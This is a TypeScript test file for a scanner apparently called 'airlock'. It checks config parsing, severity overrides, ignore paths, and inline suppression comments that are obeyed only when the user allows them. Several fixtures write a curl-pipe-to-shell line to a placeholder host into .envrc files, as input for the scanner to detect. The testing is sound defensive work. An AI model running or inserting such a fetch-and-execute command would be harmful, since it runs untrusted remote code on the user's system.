/** airlock.json: overrides, ignores, inline comments obeyed only when the user's config allows. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { parseConfig } from '../../src/config/config.ts';
import { runAirlock } from '../helpers/cli.ts';

const tmp = mkdtempSync(join(tmpdir(), 'airlock-config-'));
after(() => {
  rmSync(tmp, { recursive: true, force: true });
});

function target(name: string, envrc: string): string {
  const dir = join(tmp, name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, '.envrc'), envrc);
  return dir;
}

interface Json {
  findings: { ruleId: string; severity: string; message: string }[];
  suppressed?: { reason: string }[];
}

describe('configuration', () => {
  it('parses JSONC with comments and rejects unknown keys and bad values', () => {
    const c = parseConfig('{ // mine\n "rules": { "autorun/direnv": "low" }, "ignore": ["vendor/**"], }', 'a.json');
    assert.equal(c.rules['autorun/direnv'], 'low');
    assert.deepEqual(c.ignore, ['vendor/**']);
    assert.throws(() => parseConfig('{ "rule": {} }', 'b.json'), /unknown key "rule"/);
    assert.throws(() => parseConfig('{ "rules": { "x/y": "loud" } }', 'c.json'), /must be "off" or one of/);
    assert.throws(() => parseConfig('{ "rules": ', 'd.json'), /d\.json/);
  });

  it('applies severity overrides and "off" from --config', async () => {
    const dir = target('override', 'curl -s https://x.example.invalid/a.sh | sh\n');
    const cfg = join(tmp, 'override.json');
    writeFileSync(cfg, '{ "rules": { "autorun/direnv": "low" } }');
    const low = JSON.parse((await runAirlock(['scan', '--format', 'json', '--config', cfg, dir])).stdout) as Json;
    assert.equal(low.findings.find(f => f.ruleId === 'autorun/direnv')?.severity, 'low');
    writeFileSync(cfg, '{ "rules": { "autorun/direnv": "off" } }');
    const off = JSON.parse((await runAirlock(['scan', '--format', 'json', '--config', cfg, dir])).stdout) as Json;
    assert.equal(off.findings.filter(f => f.ruleId === 'autorun/direnv').length, 0);
    assert.equal(off.suppressed?.[0]?.reason, 'rule turned off in config');
  });

  it('never honours an airlock.json shipped inside the target', async () => {
    const dir = target('shipped', 'curl -s https://x.example.invalid/a.sh | sh\n');
    writeFileSync(join(dir, 'airlock.json'), '{ "rules": { "autorun/direnv": "off" }, "ignore": ["**"] }');
    const r = JSON.parse((await runAirlock(['scan', '--format', 'json', dir], { env: { HOME: tmp } })).stdout) as Json;
    assert.ok(r.findings.some(f => f.ruleId === 'autorun/direnv' && f.severity === 'high'));
  });

  it('shows but does not obey inline airlock-ignore comments unless the user allows them', async () => {
    const dir = target('inline', '# airlock-ignore autorun/direnv -- needed for setup\ncurl -s https://x.example.invalid/a.sh | sh\n');
    const shown = JSON.parse((await runAirlock(['scan', '--format', 'json', dir], { env: { HOME: tmp } })).stdout) as Json;
    const f = shown.findings.find(x => x.ruleId === 'autorun/direnv');
    assert.match(f?.message ?? '', /not obeyed/);
    const cfg = join(tmp, 'trust-inline.json');
    writeFileSync(cfg, '{ "allowInlineSuppressions": true }');
    const obeyed = JSON.parse((await runAirlock(['scan', '--format', 'json', '--config', cfg, dir])).stdout) as Json;
    assert.equal(obeyed.findings.filter(x => x.ruleId === 'autorun/direnv').length, 0);
    assert.equal(obeyed.suppressed?.[0]?.reason, 'needed for setup');
  });

  it('drops findings under ignored paths', async () => {
    const dir = target('ignored', 'curl -s https://x.example.invalid/a.sh | sh\n');
    const cfg = join(tmp, 'ignore.json');
    writeFileSync(cfg, '{ "ignore": [".envrc"] }');
    const r = JSON.parse((await runAirlock(['scan', '--format', 'json', '--config', cfg, dir])).stdout) as Json;
    assert.equal(r.findings.length, 0);
  });

  it('a broken --config is exit 2 with one line', async () => {
    const cfg = join(tmp, 'broken.json');
    writeFileSync(cfg, '{ "rules": [ }');
    const r = await runAirlock(['scan', '--config', cfg, tmp]);
    assert.equal(r.code, 2);
    assert.equal(r.stderr.trim().split('\n').length, 1);
  });
});
